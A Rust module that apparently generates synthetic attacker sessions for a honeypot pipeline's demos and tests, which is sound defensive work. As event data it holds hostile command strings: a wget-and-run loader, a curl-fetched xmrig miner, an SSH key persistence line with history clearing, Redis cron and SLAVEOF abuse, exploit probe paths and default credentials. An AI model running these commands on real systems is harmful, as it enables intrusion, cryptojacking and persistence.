//! Synthetic attackers for demos, tests and benchmarks.
//!
//! Every event is marked `synthetic` and goes through [`Pipeline::ingest`], the same path as
//! a sensor's batch. Everything is derived from the seed, event ids included, so running the
//! same simulation twice stores nothing new.
//!
//! The sessions follow well-known patterns (credential guessing, Mirai-style loaders, miner
//! droppers, key persistence, web and Redis probes, bare scans). Addresses come from the whole
//! space, IPv6 from 2001:db8::/32; download hosts are documentation addresses.

use crate::Pipeline;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use sikker_event::{Auth, AuthMethod, Disconnect, Event, EventData, Protocol, Request, Timestamp};
use std::collections::HashSet;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use uuid::{Builder, Uuid};

/// IPs per pipeline batch.
const IPS_PER_BATCH: usize = 5_000;
const DAY_US: i64 = 86_400_000_000;
/// UUIDv7 timestamps of synthetic ids count up from here (2026-01-01), one ms per event.
const ID_EPOCH_MS: u64 = 1_767_225_600_000;

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct SimulationReport {
    pub ips: usize,
    pub sessions: usize,
    pub events: usize,
    pub stored: usize,
    pub versions_published: usize,
}

const USERS: &[&str] = &[
    "root", "admin", "ubuntu", "pi", "oracle", "test", "user", "git", "postgres", "support",
];
const PASSWORDS: &[&str] = &[
    "123456",
    "admin",
    "password",
    "root",
    "1234",
    "12345678",
    "raspberry",
    "qwerty",
    "P@ssw0rd",
    "toor",
];

struct Gen {
    rng: StdRng,
    next_id: u64,
    now: i64,
}

struct SessionPlan {
    protocol: Protocol,
    kinds: Vec<EventData>,
}

impl Gen {
    fn id(&mut self) -> Uuid {
        let bytes: [u8; 10] = self.rng.random();
        self.next_id += 1;
        Builder::from_unix_timestamp_millis(ID_EPOCH_MS + self.next_id, &bytes).into_uuid()
    }

    fn ip(&mut self, seen: &mut HashSet<IpAddr>) -> IpAddr {
        loop {
            let ip = if self.rng.random_ratio(1, 10) {
                let tail: u64 = self.rng.random();
                let mid: u16 = self.rng.random();
                IpAddr::V6(Ipv6Addr::new(
                    0x2001,
                    0x0db8,
                    mid,
                    0,
                    (tail >> 48) as u16,
                    (tail >> 32) as u16,
                    (tail >> 16) as u16,
                    tail as u16,
                ))
            } else {
                let v: u32 = self.rng.random_range(0x0100_0000..0xdf00_0000);
                IpAddr::V4(Ipv4Addr::from(v))
            };
            // Attackers come from routable space: no private, loopback or shared ranges.
            let routable = match ip {
                IpAddr::V4(v4) => {
                    !(v4.is_private()
                        || v4.is_loopback()
                        || v4.is_link_local()
                        || v4.octets()[0] == 100 && (64..128).contains(&v4.octets()[1]))
                }
                IpAddr::V6(_) => true,
            };
            if routable && seen.insert(ip) {
                return ip;
            }
        }
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.rng.random_range(0..from.len())]
    }

    fn login(&mut self) -> EventData {
        EventData::Auth(Auth {
            method: AuthMethod::Password,
            username: self.pick(USERS).to_owned(),
            password: Some(self.pick(PASSWORDS).to_owned()),
            key_type: None,
            key_fingerprint: None,
            success: true,
        })
    }

    fn host(&mut self) -> String {
        format!("198.51.100.{}", self.rng.random_range(1..255))
    }

    fn commands(&mut self, lines: &[String]) -> Vec<EventData> {
        lines
            .iter()
            .map(|l| EventData::Command { line: l.clone() })
            .collect()
    }

    fn plan(&mut self) -> SessionPlan {
        let pattern = self.rng.random_range(0..100);
        let mut kinds = vec![EventData::Connect];
        let protocol = match pattern {
            0..=24 => {
                for _ in 0..self.rng.random_range(1..4) {
                    let mut a = self.login();
                    if let EventData::Auth(a) = &mut a {
                        a.success = false;
                    }
                    kinds.push(a);
                }
                Protocol::Ssh
            }
            25..=39 => {
                kinds.push(self.login());
                let lines = [
                    "uname -a".to_owned(),
                    "cat /proc/cpuinfo | grep name | wc -l".to_owned(),
                    "free -m".to_owned(),
                    "nvidia-smi".to_owned(),
                    "lscpu".to_owned(),
                ];
                kinds.extend(self.commands(&lines));
                Protocol::Ssh
            }
            40..=54 => {
                kinds.push(self.login());
                let h = self.host();
                let lines = [
                    format!("cd /tmp || cd /var/run; wget http://{h}/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh"),
                ];
                kinds.extend(self.commands(&lines));
                kinds.push(EventData::Download(sikker_event::Transfer {
                    url: Some(format!("http://{h}/bins.sh")),
                    tool: Some("wget".into()),
                    ..Default::default()
                }));
                if self.rng.random_bool(0.5) {
                    Protocol::Telnet
                } else {
                    Protocol::Ssh
                }
            }
            55..=64 => {
                kinds.push(self.login());
                let h = self.host();
                let lines = [
                    format!("curl -s -o /tmp/.x/xmrig http://{h}/xmrig"),
                    "chmod +x /tmp/.x/xmrig".to_owned(),
                    "nohup /tmp/.x/xmrig -o pool.example.invalid:3333 --donate-level 1 &"
                        .to_owned(),
                ];
                kinds.extend(self.commands(&lines));
                Protocol::Ssh
            }
            65..=72 => {
                kinds.push(self.login());
                let lines = [
                    "mkdir -p ~/.ssh".to_owned(),
                    "echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0 mdrfckr\" >> ~/.ssh/authorized_keys".to_owned(),
                    "chattr +ia ~/.ssh/authorized_keys".to_owned(),
                    "history -c".to_owned(),
                ];
                kinds.extend(self.commands(&lines));
                Protocol::Ssh
            }
            73..=84 => {
                let path = self.pick(&[
                    "/.env",
                    "/.git/config",
                    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                    "/index.php?s=/Index/\\think\\app/invokefunction",
                    "/GponForm/diag_Form?images/",
                ]);
                kinds.push(EventData::Request(Request {
                    method: Some("GET".into()),
                    target: Some(path.into()),
                    headers: vec![
                        ("Host".into(), "sensor".into()),
                        ("User-Agent".into(), "Mozilla/5.0 zgrab/0.x".into()),
                    ],
                    ..Default::default()
                }));
                Protocol::Http
            }
            85..=89 => {
                for args in [
                    vec!["CONFIG", "SET", "dir", "/var/spool/cron/"],
                    vec!["CONFIG", "SET", "dbfilename", "root"],
                    vec!["SLAVEOF", "198.51.100.7", "8886"],
                ] {
                    kinds.push(EventData::Request(Request {
                        args: args.into_iter().map(str::to_owned).collect(),
                        ..Default::default()
                    }));
                }
                Protocol::Redis
            }
            _ => self.pick_scan_protocol(),
        };
        SessionPlan { protocol, kinds }
    }

    fn pick_scan_protocol(&mut self) -> Protocol {
        Protocol::ALL[self.rng.random_range(0..Protocol::ALL.len())]
    }

    fn session(&mut self, ip: IpAddr, start: i64) -> Vec<Event> {
        let plan = self.plan();
        let session = Builder::from_random_bytes(self.rng.random()).into_uuid();
        let src_port = self.rng.random_range(32_768..61_000);
        let n = plan.kinds.len();
        let mut events = Vec::with_capacity(n + 2);
        let mut ts = start;
        for data in plan
            .kinds
            .into_iter()
            .chain(std::iter::once(EventData::Disconnect(Disconnect {
                reason: "closed".into(),
                duration_ms: 0,
                bytes_in: 0,
                bytes_out: 0,
            })))
        {
            ts += self.rng.random_range(1_000..2_000_000);
            let data = match data {
                EventData::Disconnect(mut d) => {
                    d.duration_ms = ((ts - start) / 1_000) as u64;
                    d.bytes_in = 40 * n as u64;
                    d.bytes_out = 400 * n as u64;
                    EventData::Disconnect(d)
                }
                other => other,
            };
            events.push(Event {
                id: self.id(),
                sensor: "simulated".into(),
                session,
                ts: Timestamp(ts),
                protocol: plan.protocol,
                src_ip: ip,
                src_port,
                dst_port: plan.protocol.standard_port(),
                synthetic: true,
                data,
            });
        }
        events
    }
}

/// Fills the store with `ips` synthetic attackers through `pipeline`, calling `progress`
/// after each batch with the number of IPs done.
pub async fn simulate(
    pipeline: &Pipeline,
    ips: usize,
    seed: u64,
    mut progress: impl FnMut(usize),
) -> anyhow::Result<SimulationReport> {
    let mut g = Gen {
        rng: StdRng::seed_from_u64(seed),
        next_id: 0,
        now: Timestamp::now().0,
    };
    let mut seen = HashSet::with_capacity(ips);
    let mut report = SimulationReport::default();
    let mut done = 0;
    while done < ips {
        let n = IPS_PER_BATCH.min(ips - done);
        let mut batch = Vec::with_capacity(n * 8);
        for _ in 0..n {
            let ip = g.ip(&mut seen);
            let sessions = 1 + usize::from(g.rng.random_ratio(1, 4));
            // First seen somewhere in the last 30 days.
            let mut start = g.now - g.rng.random_range(DAY_US..30 * DAY_US);
            for _ in 0..sessions {
                let events = g.session(ip, start);
                start = events.last().map_or(start, |e| e.ts.0) + g.rng.random_range(0..DAY_US / 2);
                report.sessions += 1;
                batch.extend(events);
            }
        }
        report.events += batch.len();
        let r = pipeline.ingest(batch).await?;
        report.stored += r.stored.len();
        report.versions_published += r.versions_published;
        done += n;
        report.ips = done;
        progress(done);
    }
    Ok(report)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn synthetic_sources_are_routable_and_distinct() {
        let mut g = Gen {
            rng: StdRng::seed_from_u64(9),
            next_id: 0,
            now: Timestamp::now().0,
        };
        let mut seen = HashSet::new();
        for _ in 0..20_000 {
            if let IpAddr::V4(v4) = g.ip(&mut seen) {
                assert!(
                    !v4.is_private() && !v4.is_loopback() && !v4.is_link_local(),
                    "{v4}"
                );
                assert!(
                    !(v4.octets()[0] == 100 && (64..128).contains(&v4.octets()[1])),
                    "{v4}"
                );
            }
        }
        assert_eq!(seen.len(), 20_000);
    }
}
